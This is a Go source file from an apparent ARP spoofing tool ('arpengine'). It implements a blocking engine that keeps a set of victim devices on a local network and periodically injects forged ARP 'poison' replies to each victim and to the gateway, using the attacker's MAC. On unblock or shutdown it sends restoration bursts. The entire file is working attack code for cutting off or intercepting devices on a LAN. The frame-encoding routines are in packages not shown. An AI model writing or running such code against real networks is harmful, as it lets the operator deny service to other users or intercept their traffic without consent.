// Package blocking implements C4: the BlockedSet and the periodic
// spoof-and-restore control loop, per spec.md §4.4.
package blocking

import (
	"context"
	"net"
	"sync"
	"time"

	"arpengine/internal/clock"
	"arpengine/internal/discovery"
	"arpengine/internal/frame"
	"arpengine/internal/logbus"
	"arpengine/internal/neterr"
)

const (
	// defaultTickPeriod is the periodic spoof loop's cadence (spec.md §4.4/§6).
	defaultTickPeriod = 1500 * time.Millisecond
	// defaultRestoreRounds and defaultRestoreGap describe the restoration
	// burst (spec.md §4.4/§6).
	defaultRestoreRounds = 5
	defaultRestoreGap    = 100 * time.Millisecond
)

// Tuning overrides the fixed defaults spec.md §6 lists as configuration
// knobs. Zero values fall back to the spec defaults — see internal/config.
type Tuning struct {
	TickPeriod    time.Duration
	RestoreRounds int
	RestoreGap    time.Duration
}

func (t Tuning) withDefaults() Tuning {
	if t.TickPeriod <= 0 {
		t.TickPeriod = defaultTickPeriod
	}
	if t.RestoreRounds <= 0 {
		t.RestoreRounds = defaultRestoreRounds
	}
	if t.RestoreGap <= 0 {
		t.RestoreGap = defaultRestoreGap
	}
	return t
}

// injector is the subset of capture.Channel the engine depends on.
type injector interface {
	Inject(raw []byte) error
}

// Engine is C4: it owns the resolved gateway and the BlockedSet, and runs
// the periodic poison loop.
type Engine struct {
	ownMAC  net.HardwareAddr
	gateway discovery.Device
	table   *discovery.Table
	channel injector
	bus     *logbus.Bus

	set    *Set
	tuning Tuning

	startOnce sync.Once
	stopOnce  sync.Once
	started   bool
	cancel    context.CancelFunc
	loopDone  chan struct{}
}

// New builds a BlockingEngine for the given gateway, already resolved by
// the caller per spec.md §4.4 ("gateway: Device (resolved once at
// startup...)"). ownMAC is the attacker's own binding MAC used as the
// source of every poisoned/restoration frame. New applies spec.md's fixed
// defaults; use NewWithTuning to override them.
func New(ownMAC net.HardwareAddr, gateway discovery.Device, table *discovery.Table, channel injector, bus *logbus.Bus) *Engine {
	return NewWithTuning(ownMAC, gateway, table, channel, bus, Tuning{})
}

// NewWithTuning is New with explicit tunables (internal/config's Config
// feeds this from the environment in cmd/arpengined).
func NewWithTuning(ownMAC net.HardwareAddr, gateway discovery.Device, table *discovery.Table, channel injector, bus *logbus.Bus, tuning Tuning) *Engine {
	return &Engine{
		ownMAC:   ownMAC,
		gateway:  gateway,
		table:    table,
		channel:  channel,
		bus:      bus,
		set:      NewSet(),
		tuning:   tuning.withDefaults(),
		loopDone: make(chan struct{}),
	}
}

// Set exposes the BlockedSet for read-only display purposes.
func (e *Engine) Set() *Set { return e.set }

// Start idempotently launches the periodic spoof task. It is only safe to
// call once the gateway is known, per spec.md §4.4; a gateway whose MAC is
// not 6 bytes long (such as a zero-value Device) is treated as "absent" and
// aborts the run.
func (e *Engine) Start(ctx context.Context) error {
	if len(e.gateway.MAC) != 6 {
		return neterr.ErrNoGateway
	}

	e.startOnce.Do(func() {
		loopCtx, cancel := context.WithCancel(ctx)
		e.cancel = cancel
		e.started = true
		go e.spoofLoop(loopCtx)
	})
	return nil
}

func (e *Engine) gatewayPeer() frame.Peer {
	return frame.Peer{MAC: e.gateway.MAC, IP: e.gateway.IP}
}

func victimPeer(info *Info) frame.Peer {
	return frame.Peer{MAC: info.MAC, IP: info.IP}
}

// poisonOnce sends the two poison replies (to victim, to gateway) for one
// blocked device and records them in its packet counter.
func (e *Engine) poisonOnce(info *Info) {
	victim := victimPeer(info)

	toVictim := frame.EncodePoisonToVictim(e.ownMAC, e.gateway.IP, victim)
	if err := e.channel.Inject(toVictim); err != nil {
		e.bus.Errorf("blocking: poison to victim %s failed: %v", info.IP, err)
	}

	toGateway := frame.EncodePoisonToGateway(e.ownMAC, info.IP, e.gatewayPeer())
	if err := e.channel.Inject(toGateway); err != nil {
		e.bus.Errorf("blocking: poison to gateway for victim %s failed: %v", info.IP, err)
	}

	info.packetsSent.Add(2)
}

// spoofLoop is the periodic task: wait one tick, then poison every
// currently blocked device from a snapshot of the set. Exceptions from the
// capture channel are logged per-victim without aborting the loop.
func (e *Engine) spoofLoop(ctx context.Context) {
	defer close(e.loopDone)
	for {
		if cancelled := clock.Sleep(ctx, e.tuning.TickPeriod); cancelled {
			return
		}
		for _, info := range e.set.Snapshot() {
			e.poisonOnce(info)
		}
	}
}

// Block records device as blocked and immediately sends the poison pair,
// so the first real effect doesn't wait for the next tick. Blocking the
// gateway, or a device already blocked, is a rejected no-op logged but not
// propagated as an error, per spec.md §4.4/§7.
//
// The BlockedSet insert and the Table's is_blocked flip happen inside the
// same Set.mu critical section (via TryInsert's onCreate callback) so no
// reader of either structure's public API can ever observe one mutation
// without the other — spec.md §5's pairing invariant.
func (e *Engine) Block(device discovery.Device) error {
	if device.Equal(e.gateway) {
		e.bus.Logf("blocking: refusing to block the gateway %s", device.IP)
		return nil
	}

	info, created := e.set.TryInsert(device.MAC, device.IP, time.Now(), func() {
		e.table.SetBlocked(device.MAC, true)
	})
	if !created {
		e.bus.Logf("blocking: %s is already blocked", device.IP)
		return nil
	}

	e.bus.Logf("blocking: blocking %s (%s)", device.IP, device.MAC)
	e.poisonOnce(info)
	return nil
}

// Unblock atomically removes device from the BlockedSet and clears
// is_blocked — again as one Set.mu critical section via Remove's onRemove
// callback, preserving the same pairing invariant as Block — then runs the
// restoration burst before returning. Unblocking an unknown device is a
// no-op.
func (e *Engine) Unblock(device discovery.Device) error {
	info, existed := e.set.Remove(device.MAC, func() {
		e.table.SetBlocked(device.MAC, false)
	})
	if !existed {
		return nil
	}

	e.bus.Logf("blocking: unblocking %s (%s)", device.IP, device.MAC)
	e.restore(context.Background(), info)
	return nil
}

// restore runs the five-round, 100ms-apart restoration burst for one
// victim, telling it the true gateway MAC and telling the gateway the true
// victim MAC. The multiplicity saturates any reasonable retransmit window
// on the victim's stale cache entry before this process exits (spec.md §4.4).
func (e *Engine) restore(ctx context.Context, info *Info) {
	victim := victimPeer(info)
	gateway := e.gatewayPeer()

	for round := 0; round < e.tuning.RestoreRounds; round++ {
		toVictim := frame.EncodeRestore(e.ownMAC, victim, gateway)
		if err := e.channel.Inject(toVictim); err != nil {
			e.bus.Errorf("blocking: restore to victim %s failed: %v", info.IP, err)
		}
		toGateway := frame.EncodeRestore(e.ownMAC, gateway, victim)
		if err := e.channel.Inject(toGateway); err != nil {
			e.bus.Errorf("blocking: restore to gateway for victim %s failed: %v", info.IP, err)
		}

		if round < e.tuning.RestoreRounds-1 {
			clock.Sleep(ctx, e.tuning.RestoreGap)
		}
	}
}

// Stop cancels the periodic task, drains the BlockedSet (clearing each
// device's IsBlocked in the same critical section), runs the restoration
// burst for every drained victim, then awaits the spoof task's termination. The
// restoration bursts for outstanding victims run before the cancellation
// fully propagates — spec.md §5 forbids exiting with victims still
// poisoned.
func (e *Engine) Stop() {
	e.stopOnce.Do(func() {
		if e.cancel != nil {
			e.cancel()
		}

		for _, info := range e.set.Clear(func(mac net.HardwareAddr) {
			e.table.SetBlocked(mac, false)
		}) {
			e.restore(context.Background(), info)
		}

		if e.started {
			<-e.loopDone
		}
		e.bus.Logf("blocking: stopped")
	})
}
